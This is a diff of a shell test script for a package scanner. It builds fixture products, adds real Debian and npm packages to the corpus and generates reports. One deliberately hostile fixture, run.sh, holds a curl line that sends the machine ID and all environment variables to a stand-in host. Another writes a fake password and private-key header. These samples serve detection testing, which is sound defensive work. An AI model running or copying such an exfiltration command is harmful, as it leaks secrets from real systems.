@@ -31,9 +31,8 @@ page() { # NAME OPTION...: $work/NAME.html of $work/NAME.json
 }
 keep() { printf '%s\n' "$out" | head -n 1 >"$work/$1.json"; }
 
-# --- five products: a package of the archive, an empty folder, a script, an archive of archives, one with much against it
-mkdir -p "$work/tidy" "$work/chatty" "$work/nested"
-echo "A folder with nothing to say." >"$work/tidy/README"
+# --- five real products, of Debian and npm; and one made to have much against it, in an archive of archives, by another policy
+mkdir -p "$work/chatty" "$work/nested"
 cat >"$work/chatty/run.sh" <<'S'
 #!/bin/sh
 curl -s http://telemetry.example.com/collect?id=$(cat /etc/machine-id) --data "$(env)"
@@ -43,15 +42,25 @@ chmod +x "$work/chatty/run.sh"
 printf 'password = "hunter2hunter2"\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n' >"$work/chatty/settings.ini"
 tar -C "$work" -cf "$work/nested/inner.tar" chatty && gzip -nk "$work/nested/inner.tar"
 cp /usr/bin/env "$work/nested/"
-for product in tidy chatty nested; do
-  scan "$work/$product"
+scan "$work/chatty"
+keep chatty
+scan --policy consumer "$work/nested"
+keep nested
+shown=(chatty nested)
+corpus=${PROBITY_TEST_CACHE:-$scratch}/corpus
+real=(hello popularity-contest age zlib1g lodash)
+tests/corpus.sh "$corpus" "${real[@]}" 2>"$scratch/corpus.log"
+for product in "${real[@]}"; do
+  file=$corpus/$(awk -v n="$product" '$2 == n {print $5}' tests/corpus.lock)
+  if [[ ! -f $file ]]; then
+    skip "$product: a page" "$(grep -F "$product" "$scratch/corpus.log" | head -n 1)"
+    continue
+  fi
+  scan "$file"
   keep "$product"
+  shown+=("$product")
 done
-scan --policy consumer "$work/nested/inner.tar.gz"
-keep archive
-scan /usr/bin/openssl
-keep program
-for product in tidy chatty nested archive program; do
+for product in "${shown[@]}"; do
   page "$product"
   browse report "$work/$product.html" "$work/$product.json" "$work/$product.pdf"
 done
@@ -73,10 +82,10 @@ for decision in accept conditional reject; do
   page "$decision"
   browse first "$work/$decision.html" "$work/$decision.json" "$kept/$decision.txt"
 done
-[[ -z ${SHOTS:-} ]] || for product in tidy chatty nested archive program accept reject; do node tests/browser/main.js shots "$work/$product.html" "$kept"; done
+[[ -z ${SHOTS:-} ]] || for product in "${shown[@]}" accept reject; do node tests/browser/main.js shots "$work/$product.html" "$kept"; done
 
 # --- a static site from a web server: a hostile name in it, another decision
-/usr/bin/python3 tests/make_assessments.py 96 "$work/chatty.json" "$work/tidy.json" "$work/archive.json" >"$work/rows"
+/usr/bin/python3 tests/make_assessments.py 96 "$work/chatty.json" "$work/accept.json" "$work/reject.json" >"$work/rows"
 /usr/bin/python3 - "$work/rows" <<'PY'
 import json, sys
 rows = [json.loads(l) for l in open(sys.argv[1])]
